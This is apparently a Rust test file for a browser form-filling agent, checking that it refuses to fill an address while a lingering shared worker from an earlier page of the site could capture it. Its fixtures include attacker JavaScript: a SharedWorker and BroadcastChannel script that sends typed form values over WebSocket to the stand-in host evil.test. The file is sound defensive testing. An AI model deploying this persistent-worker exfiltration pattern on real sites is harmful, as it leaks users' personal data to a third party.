//! A program that a page of the site left running before the task: a shared worker with an extended lifetime. No
//! extension sees or ends it, and it receives the broadcasts of its site's pages.

use std::process::Command;

use crate::browser::node;
use crate::egress::{arrive, until_quiet, wait_for};
use crate::files::repository;
use crate::stage::{FORM, REQUEST, Stage, wait_until};

/// A page that starts the shared worker.
const STARTS_WORKER: &str = "<!doctype html><title>Earlier</title><script>
    new SharedWorker('/left.js', { name: 'left', extendedLifetime: true });</script>";

/// The shared worker, which sends the broadcasts to the attacker.
const SHARED_WORKER: &str = "const send = (d) => new WebSocket('wss://evil.test:PORT/left?' + d);
    new BroadcastChannel('all').onmessage = (e) => send(e.data);
    send('started');";

/// Broadcasts the typed text to all of its origin.
const BROADCASTS: &str = "<script>
    const all = new BroadcastChannel('all');
    addEventListener('input', () => setTimeout(() => {
      all.postMessage(encodeURIComponent(document.forms[0].elements.street.value));
      document.body.dataset.broadcast = '';
    }, 50));</script>";

/// A browser whose start was reported to the extension, so that no page was open earlier.
fn machine(seed: u64) -> Stage {
    let mut stage = Stage::new(seed);
    stage.site.put("shop.test/checkout", &format!("{FORM}{BROADCASTS}"));
    stage.site.put("shop.test/earlier", STARTS_WORKER);
    stage.site.put("shop.test/left.js", SHARED_WORKER);
    stage.serve(true);
    stage.browse();
    report_startup(&mut stage);
    stage
}

/// Chromium 156 installs an extension from its command line anew at each start and does not report the start, so the
/// test reports it.
fn report_startup(stage: &mut Stage) {
    stage.browser().at_question("startup", &serde_json::json!({}));
}

/// Opens a page of the site that starts the shared worker, and closes that page.
fn leave_worker_running(stage: &mut Stage) {
    let (earlier, bank) = (stage.site.url("shop.test/earlier"), stage.site.url("bank.test/"));
    stage.browser().open(&earlier);
    arrive(stage, "evil.test", &["left?started"]);
    stage.browser().tab(&bank);
    stage.browser().at_question("closeOthers", &serde_json::json!({}));
}

fn go_to_the_form(stage: &mut Stage) {
    let url = stage.site.url("shop.test/checkout");
    stage.browser().open(&url);
    let page = stage.agent_until(None, "Deliver to");
    assert!(page.contains("Deliver to"), "{page}");
}

/// Waits until the terminal has shown these words, and returns its text.
pub fn shown_until(stage: &Stage, words: &str) -> String {
    let mut shown = String::new();
    wait_until(|| {
        shown.push_str(&stage.asked());
        if shown.contains(words) { Ok(()) } else { Err(format!("{words}: {shown}")) }
    });
    shown
}

/// Nothing is filled in and the user gets the reason; the program still receives the page's broadcasts.
fn is_denied(stage: &mut Stage) {
    go_to_the_form(stage);
    let before = until_quiet(stage);
    let reply = stage.agent_until(Some(REQUEST), "egress_blocked");
    assert_eq!(reply.trim(), "DENY.address {\"reason\":\"egress_blocked\"}");
    let shown = shown_until(stage, "--trust-open-pages");
    assert!(shown.contains("until five minutes have passed"), "{shown}");
    assert!(shown.contains("may have left a program running in the browser"), "{shown}");
    assert!(shown.contains("in 6 minutes") || shown.contains("in 5 minutes"), "{shown}");
    assert!(shown.contains("on https://shop.test:"), "{shown}");
    assert_eq!(stage.browser().values()["street"], "");
    assert_eq!(until_quiet(stage), before);
    stage.browser().evaluate("all.postMessage('alive')");
    arrive(stage, "evil.test", &["left?alive"]);
    stage.no_value_got_out();
}

#[test]
fn a_program_of_an_earlier_page_receives_filled_values_if_the_user_trusts_that_page() {
    let mut stage = machine(61);
    leave_worker_running(&mut stage);
    stage.begin_task(&["--trust-open-pages"]);
    shown_until(&stage, "could still pass on what is filled in");
    go_to_the_form(&mut stage);
    let reply = stage.agent_until(Some(REQUEST), "GRANT");
    assert!(reply.contains("GRANT.address"), "{reply} {}", stage.asked());
    wait_for(&mut stage, "'broadcast' in document.body.dataset");
    let street = stage.value("street");
    let spelled = stage.browser().evaluate(&format!("encodeURIComponent({})", serde_json::json!(street)));
    arrive(&stage, "evil.test", &[&format!("left?{}", spelled.as_str().unwrap())]);
}

#[test]
fn nothing_is_filled_while_an_earlier_page_may_have_left_a_program_running() {
    let mut stage = machine(62);
    leave_worker_running(&mut stage);
    stage.begin_task(&[]);
    is_denied(&mut stage);
}

#[test]
fn a_restarted_worker_knows_of_earlier_pages_too() {
    let mut stage = machine(63);
    leave_worker_running(&mut stage);
    stage.browser().stop_worker();
    stage.begin_task(&[]);
    stage.browser().stop_worker();
    is_denied(&mut stage);
}

#[test]
fn a_site_that_was_not_open_before_is_filled_at_once() {
    let mut stage = machine(64);
    let bank = stage.site.url("bank.test/");
    stage.browser().open(&bank);
    stage.begin_task(&[]);
    go_to_the_form(&mut stage);
    let reply = stage.agent_until(Some(REQUEST), "GRANT");
    assert!(reply.contains("GRANT.address"), "{reply} {}", stage.asked());
    assert_eq!(stage.browser().values()["street"], stage.value("street"));
}

#[test]
fn a_new_extension_assumes_that_earlier_pages_were_open() {
    let mut stage = Stage::new(65);
    stage.site.put("shop.test/checkout", FORM);
    stage.serve(true);
    stage.browse();
    stage.begin_task(&[]);
    go_to_the_form(&mut stage);
    let reply = stage.agent_until(Some(REQUEST), "egress_blocked");
    assert!(reply.contains("egress_blocked"), "{reply}");
    shown_until(&stage, "may have left a program running in the browser");
    report_startup(&mut stage);
    let reply = stage.agent_until(Some(REQUEST), "GRANT");
    assert!(reply.contains("GRANT.address"), "{reply} {}", stage.asked());
}

#[test]
fn the_wait_ends_after_five_minutes_despite_clock_changes_and_worker_restarts() {
    let done = Command::new(node())
        .arg(repository().join("cli/tests/extension/earlier_pages.mjs"))
        .arg(crate::files::extension())
        .output()
        .unwrap();
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
}
